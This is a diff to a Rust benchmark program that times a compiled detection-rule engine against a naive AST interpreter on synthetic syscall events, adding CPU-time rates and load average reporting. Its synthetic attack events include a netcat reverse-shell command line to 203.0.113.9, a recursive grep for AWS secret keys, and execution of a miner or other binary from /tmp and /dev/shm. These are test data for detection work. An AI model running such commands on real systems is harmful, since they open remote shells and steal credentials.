@@ -177,13 +177,14 @@ fn synth_stream(n: usize, seed: u64) -> Vec<OwnedEvent> {
         } else if roll < 72 {
             let mut e = json!({"evt.type": "execve", "evt.rawres": 0, "evt.res": "SUCCESS", "evt.arg.flags": "0"});
             if attack {
-                let a = *rng.pick(&[
+                let a = rng.pick(&[
                     json!({"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444", "proc.args": "-e /bin/sh 203.0.113.9 4444"}),
                     json!({"proc.name": "grep", "proc.cmdline": "grep -ri aws_secret_access_key /", "proc.args": "-ri aws_secret_access_key /"}),
                     json!({"proc.name": "x", "proc.exe": "/dev/shm/x", "proc.cmdline": "x", "proc.args": ""}),
                     json!({"proc.name": "bash", "proc.tty": 34816, "proc.pname": "runc", "proc.anames": ["runc", "containerd-shim"]}),
                     json!({"proc.name": "miner", "proc.exe": "/tmp/miner", "proc.is_exe_upper_layer": true}),
-                ]);
+                ])
+                .clone();
                 e = merge(e, a);
             }
             e
@@ -244,14 +245,33 @@ fn synth_stream(n: usize, seed: u64) -> Vec<OwnedEvent> {
     out
 }
 
-/// Runs `f` over the stream repeatedly for at least `min` and returns (events/s, matches per pass).
+/// CPU time this thread has run, in ns (`/proc/thread-self/schedstat`, first field). The
+/// machine is shared, so events per CPU-second is the honest "one core" number; wall-clock
+/// rates are reported too.
+fn thread_cpu_ns() -> Option<u64> {
+    std::fs::read_to_string("/proc/thread-self/schedstat")
+        .ok()?
+        .split_whitespace()
+        .next()?
+        .parse()
+        .ok()
+}
+
+struct Rate {
+    per_cpu_sec: f64,
+    per_wall_sec: f64,
+}
+
+/// Runs `f` over the stream repeatedly for at least `min` wall time; returns rates and the
+/// matches of one pass.
 fn measure(
     events: &[OwnedEvent],
     min: Duration,
     mut f: impl FnMut(&OwnedEvent) -> usize,
-) -> (f64, usize) {
+) -> (Rate, usize) {
     // Warm-up pass (also the match count).
     let matches: usize = events.iter().map(&mut f).sum();
+    let cpu0 = thread_cpu_ns();
     let start = Instant::now();
     let mut n = 0usize;
     while start.elapsed() < min {
@@ -260,7 +280,18 @@ fn measure(
         }
         n += events.len();
     }
-    (n as f64 / start.elapsed().as_secs_f64(), matches)
+    let wall = start.elapsed().as_secs_f64();
+    let cpu = match (cpu0, thread_cpu_ns()) {
+        (Some(a), Some(b)) if b > a => (b - a) as f64 / 1e9,
+        _ => wall,
+    };
+    (
+        Rate {
+            per_cpu_sec: n as f64 / cpu,
+            per_wall_sec: n as f64 / wall,
+        },
+        matches,
+    )
 }
 
 fn main() {
@@ -269,7 +300,7 @@ fn main() {
     let mut events_file = None;
     let mut out = None;
     let mut secs = 3.0f64;
-    let mut n_events = 20_000usize;
+    let mut n_events = 4_096usize;
     let mut args = std::env::args().skip(1);
     while let Some(a) = args.next() {
         match a.as_str() {
@@ -339,6 +370,8 @@ fn main() {
     let (slow, m3) = measure(&events, min, |e| naive.count_matches(e));
     assert_eq!((m1, m1), (m2, m3));
 
+    let (fast_w, nodisp_w, slow_w) = (fast.per_wall_sec, nodisp.per_wall_sec, slow.per_wall_sec);
+    let (fast, nodisp, slow) = (fast.per_cpu_sec, nodisp.per_cpu_sec, slow.per_cpu_sec);
     let cpu = std::fs::read_to_string("/proc/cpuinfo")
         .ok()
         .and_then(|s| {
@@ -359,10 +392,12 @@ fn main() {
         "seconds_per_variant": secs,
         "threads": 1,
         "cpu": cpu,
+        // Other builds share this machine; the ratios are measured in the same run.
+        "loadavg_at_end": std::fs::read_to_string("/proc/loadavg").map(|s| s.split_whitespace().take(3).collect::<Vec<_>>().join(" ")).unwrap_or_default(),
         "results": {
-            "compiled_dispatch": {"events_per_sec": fast.round(), "ns_per_event": (1e9 / fast * 10.0).round() / 10.0},
-            "compiled_no_dispatch": {"events_per_sec": nodisp.round(), "ns_per_event": (1e9 / nodisp * 10.0).round() / 10.0},
-            "naive_ast": {"events_per_sec": slow.round(), "ns_per_event": (1e9 / slow * 10.0).round() / 10.0},
+            "compiled_dispatch": {"events_per_cpu_sec": fast.round(), "ns_per_event": (1e9 / fast * 10.0).round() / 10.0, "events_per_wall_sec": fast_w.round()},
+            "compiled_no_dispatch": {"events_per_cpu_sec": nodisp.round(), "ns_per_event": (1e9 / nodisp * 10.0).round() / 10.0, "events_per_wall_sec": nodisp_w.round()},
+            "naive_ast": {"events_per_cpu_sec": slow.round(), "ns_per_event": (1e9 / slow * 10.0).round() / 10.0, "events_per_wall_sec": slow_w.round()},
         },
         "speedup_vs_naive_ast": ((fast / slow) * 10.0).round() / 10.0,
         "speedup_vs_no_dispatch": ((fast / nodisp) * 10.0).round() / 10.0,
@@ -372,14 +407,20 @@ fn main() {
     let text = serde_json::to_string_pretty(&result).unwrap_or_default();
     println!("{text}");
     println!();
-    println!("| variant | events/s (1 core) | ns/event | vs naive |");
-    println!("|---|---:|---:|---:|");
-    for (name, v) in [
-        ("compiled + evt.type dispatch", fast),
-        ("compiled, no dispatch", nodisp),
-        ("naive AST interpreter", slow),
+    println!("| variant | events per CPU-second (1 core) | ns/event | vs naive | events per wall-second |");
+    println!("|---|---:|---:|---:|---:|");
+    for (name, v, w) in [
+        ("compiled + evt.type dispatch", fast, fast_w),
+        ("compiled, no dispatch", nodisp, nodisp_w),
+        ("naive AST interpreter", slow, slow_w),
     ] {
-        println!("| {name} | {:.0} | {:.1} | {:.1}x |", v, 1e9 / v, v / slow);
+        println!(
+            "| {name} | {:.0} | {:.1} | {:.1}x | {:.0} |",
+            v,
+            1e9 / v,
+            v / slow,
+            w
+        );
     }
     if let Some(p) = out {
         if let Some(dir) = p.parent() {
